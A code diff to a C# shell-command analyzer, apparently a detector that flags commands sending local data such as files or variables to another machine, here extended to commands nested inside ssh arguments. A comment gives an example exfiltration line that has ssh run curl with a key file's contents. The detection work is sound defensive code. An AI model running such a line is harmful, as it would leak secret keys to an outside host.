@@ -1,4 +1,5 @@
 using System.Collections.Frozen;
+using System.Text;
 using Firstlook.Effects.Shell;
 
 namespace Firstlook.Effects;
@@ -28,7 +29,9 @@ internal static class SentAway
         {
             if (!sends)
             {
-                sends = command.Words[at].Constant is { } name && Senders.Contains(name[(name.LastIndexOf('/') + 1)..]);
+                sends = command.Words[at].Constant is { } name && IsSender(name);
+                // ssh host "curl https://h/?x=$(cat key)": what another shell reads is put together here.
+                if (at > 0 && command.Words[0].Constant is not ("echo" or "printf") && CarriedInText(command.Words[at].Parts, scope, new StringBuilder()) is { } put) return $"what '{put}' holds is sent to another machine";
                 continue;
             }
             if (command.Words[at - 1].Constant is { } before && Headers.Contains(before)) continue;
@@ -52,21 +55,47 @@ internal static class SentAway
         }
     }
 
+    static bool IsSender(string word) => Senders.Contains(word[(word.LastIndexOf('/') + 1)..]);
+
+    /// <param name="before">What of the text stands before these parts.</param>
+    static string? CarriedInText(EquatableArray<WordPart> parts, Scope scope, StringBuilder before)
+    {
+        foreach (var part in parts)
+        {
+            if (part is Literal literal) before.Append(literal.Text);
+            else if (part is SingleQuoted single) before.Append(single.Text);
+            else if (part is DoubleQuoted quoted && CarriedInText(quoted.Parts, scope, before) is { } inside) return inside;
+            else if (part is not DoubleQuoted && Carried(part, scope) is { } carried && Sends(before.ToString())) return carried;
+        }
+        return null;
+    }
+
+    /// <summary>Whether a text that goes on hands what follows to another machine, in anything but a header.</summary>
+    static bool Sends(string text)
+    {
+        var words = text.Split([' ', '\t', '\n', ';', '|', '&', '(', '`', '"', '\''], StringSplitOptions.RemoveEmptyEntries);
+        var sender = Array.FindLastIndex(words, IsSender);
+        if (sender < 0) return false;
+        var option = Array.FindLastIndex(words, word => word[0] == '-');
+        return option < sender || !Headers.Contains(words[option]) || words[option..].Any(word => word.Contains("://", StringComparison.Ordinal));
+    }
+
     static string? Carried(EquatableArray<WordPart> parts, Scope scope)
     {
         foreach (var part in parts)
         {
-            var carried = part switch
-            {
-                CommandSubstitution substitution => Printed(substitution.Body, scope),
-                DoubleQuoted quoted => Carried(quoted.Parts, scope),
-                Variable variable => scope.Carried.Contains(variable.Name) ? "$" + variable.Name : Carried(variable.Inner, scope),
-                _ => null,
-            };
-            if (carried is not null) return carried;
+            if (Carried(part, scope) is { } carried) return carried;
         }
         return null;
     }
+
+    static string? Carried(WordPart part, Scope scope) => part switch
+    {
+        CommandSubstitution substitution => Printed(substitution.Body, scope),
+        DoubleQuoted quoted => Carried(quoted.Parts, scope),
+        Variable variable => scope.Carried.Contains(variable.Name) ? "$" + variable.Name : Carried(variable.Inner, scope),
+        _ => null,
+    };
 
     static string? Printed(ShellList body, Scope scope)
     {
